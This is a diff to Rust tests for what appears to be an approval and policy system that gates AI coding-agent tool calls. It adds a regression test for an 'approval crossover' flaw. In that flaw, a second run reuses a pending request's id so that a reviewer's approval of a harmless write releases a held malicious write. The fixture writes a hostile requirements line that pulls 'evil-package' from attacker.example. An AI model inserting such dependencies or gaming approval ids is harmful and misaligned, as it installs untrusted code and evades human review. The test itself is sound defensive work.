@@ -434,6 +434,15 @@ fn records_roles_approvals_and_kill_switch(database: &Database) {
     let pending = pending.as_array().unwrap();
     assert_eq!(pending.len(), 1, "{pending:?}");
     let id = pending[0]["id"].as_str().unwrap().to_string();
+    // What bob decides on: this run, this call.
+    let bound = json!({"run_id": pending[0]["run_id"], "digest": pending[0]["digest"]});
+    let bound_decision = |fields: Value| {
+        let mut body = bound.clone();
+        for (k, v) in fields.as_object().unwrap() {
+            body[k] = v.clone();
+        }
+        body
+    };
     assert_eq!(pending[0]["reviewers"], json!(["bob@example.com"]));
     assert!(
         pending[0]["input"]
@@ -445,7 +454,7 @@ fn records_roles_approvals_and_kill_switch(database: &Database) {
     for token in [&alice, &sec, &carol] {
         let (status, body) = server.client(token).post(
             &format!("/api/v1/approvals/{id}"),
-            json!({"decision": "approve"}),
+            bound_decision(json!({"decision": "approve"})),
         );
         assert_eq!(status, 403, "{body}");
     }
@@ -455,14 +464,20 @@ fn records_roles_approvals_and_kill_switch(database: &Database) {
         json!({"file_path": "billing/requirements.txt", "content": "stripe==9\n"}),
     );
     assert_eq!(decision, "deny");
+    // A decision that names another run or call is refused.
     let (status, body) = server.client(&bob).post(
         &format!("/api/v1/approvals/{id}"),
-        json!({"decision": "approve", "note": "pinned version"}),
+        json!({"decision": "approve", "run_id": run_id, "digest": "0".repeat(64)}),
+    );
+    assert_eq!(status, 409, "{body}");
+    let (status, body) = server.client(&bob).post(
+        &format!("/api/v1/approvals/{id}"),
+        bound_decision(json!({"decision": "approve", "note": "pinned version"})),
     );
     assert_eq!(status, 200, "{body}");
     let (status, _) = server.client(&bob).post(
         &format!("/api/v1/approvals/{id}"),
-        json!({"decision": "deny"}),
+        bound_decision(json!({"decision": "deny"})),
     );
     assert_eq!(status, 409, "decided once");
     let (decision, reason) = repo.pre(
@@ -535,6 +550,108 @@ fn records_roles_approvals_and_kill_switch(database: &Database) {
     assert_eq!(run["reviews"][0]["decision"], "request-changes");
     let (_, all) = server.client(&bob).get("/api/v1/approvals");
     assert_eq!(all.as_array().unwrap().len(), 2, "{all}");
+}
+
+/// The pending approval requests in a repository's local store.
+fn local_pending(repo: &Repo) -> Vec<Value> {
+    let out = repo.mandate(&["approvals", "--json"]);
+    assert!(out.status.success(), "{}", text(&out));
+    serde_json::from_slice::<Value>(&out.stdout)
+        .unwrap()
+        .as_array()
+        .unwrap()
+        .clone()
+}
+
+/// Issue 17, C1: a reviewer's approval covers the run and the call it was made for, and
+/// nothing else. Carol's agent holds an evil write (request D). Carol then claims D in
+/// another run of hers, for a harmless call that bob approves. Before: the server kept
+/// whichever request with that id arrived first, answered a sync for any id, and the
+/// hook applied the answer to whatever local request had that id, so the evil write
+/// ran "approved by bob". Now the decision names run and digest, the hook compares
+/// them, the server refuses the second request for a taken id, and sync answers only
+/// the caller's own runs.
+#[test]
+fn approval_crossover_fails_by_construction() {
+    let dir = tempfile::tempdir().unwrap();
+    let database = Database::sqlite(dir.path());
+    let server = ServerProcess::start(&database);
+    let carol = server.token("carol@example.com", "developer");
+    let dave = server.token("dave@example.com", "developer");
+    let bob = server.token("bob@example.com", "reviewer");
+
+    // Carol's run, not yet linked to the server: the evil write is held as request D.
+    let victim = Repo::new("", &carol);
+    let evil = json!({"file_path": "billing/requirements.txt",
+                      "content": "evil-package==6.6.6 --index-url http://attacker.example/simple\n"});
+    assert_eq!(victim.pre("t1", "Write", evil.clone()).0, "deny");
+    let held = local_pending(&victim);
+    assert_eq!(held.len(), 1, "{held:?}");
+    let d = held[0]["id"].as_str().unwrap().to_string();
+
+    // Another run of carol's claims D for a harmless call; bob approves what he sees.
+    let squat = Repo::new("", &carol);
+    let harmless = json!({"file_path": "billing/requirements.txt", "content": "stripe==9\n"});
+    assert_eq!(squat.pre("s1", "Write", harmless.clone()).0, "deny");
+    let harmless_request = &local_pending(&squat)[0];
+    let squat_run = squat.records.join("runs").join(squat.run_id());
+    mandate_record::RunLog::append_to(
+        &squat_run,
+        json!({"type": "approval.request", "id": d, "tool": "Write",
+               "digest": harmless_request["digest"], "group": "billing",
+               "reviewers": ["bob@example.com"], "tool_use_id": "s1",
+               "status": "pending", "rule": "approval[0]", "reason": "dependency change"}),
+    )
+    .unwrap();
+    let out = squat.mandate(&["push", "--server", &server.url]);
+    assert!(out.status.success(), "{}", text(&out));
+    let (_, pending) = server.client(&bob).get("/api/v1/approvals?status=pending");
+    let row = pending
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|a| a["id"] == json!(d))
+        .cloned()
+        .expect("the squatting request is on the server");
+    let (status, body) = server.client(&bob).post(
+        &format!("/api/v1/approvals/{d}"),
+        json!({"decision": "approve", "for_run": "true", "run_id": row["run_id"],
+               "digest": row["digest"]}),
+    );
+    assert_eq!(status, 200, "{body}");
+
+    // Carol's run now talks to the server: the evil write stays held.
+    std::fs::write(
+        victim.dir.path().join("org.toml"),
+        format!("version = 1\n[records]\nserver = \"{}\"\n", server.url),
+    )
+    .unwrap();
+    let (decision, reason) = victim.pre("t2", "Write", evil.clone());
+    assert_eq!(
+        decision, "deny",
+        "an approval of another run's call let this one through: {reason}"
+    );
+    let still = local_pending(&victim);
+    assert_eq!(still.len(), 1, "{still:?}");
+    assert_eq!(still[0]["status"], "pending");
+    // And the server refuses the request that names a taken id, saying so.
+    let out = victim.mandate(&["push", "--server", &server.url]);
+    assert!(!out.status.success(), "{}", text(&out));
+    assert!(text(&out).contains("already taken"), "{}", text(&out));
+    // Nobody else learns of a decision by naming its id.
+    let (status, sync) = server
+        .client(&dave)
+        .get(&format!("/api/v1/sync?approvals={d}"));
+    assert_eq!(status, 200, "{sync}");
+    assert_eq!(
+        sync["approvals"],
+        json!([]),
+        "dave asked about carol's request"
+    );
+    assert!(
+        d.len() >= 2 + 26,
+        "approval ids carry at least 128 random bits: {d}"
+    );
 }
 
 #[test]
@@ -671,7 +788,11 @@ fn two_servers_serve_the_same_data(database: &Database) {
     let id = pending[0]["id"].as_str().unwrap().to_string();
     // (Through the helper the CLI's `mandate approve` can call with records.server set.)
     let bob_client = Client::new(&two.url, Some(bob.clone())).unwrap();
-    mandate_project::remote::decide(&bob_client, &id, true, true, "for the run").unwrap();
+    let request = mandate_project::approvals::Approvals::new(&repo.records)
+        .get(&id)
+        .unwrap()
+        .unwrap();
+    mandate_project::remote::decide(&bob_client, &request, true, true, "for the run").unwrap();
     let (decision, reason) = repo.pre(
         "t3",
         "Write",
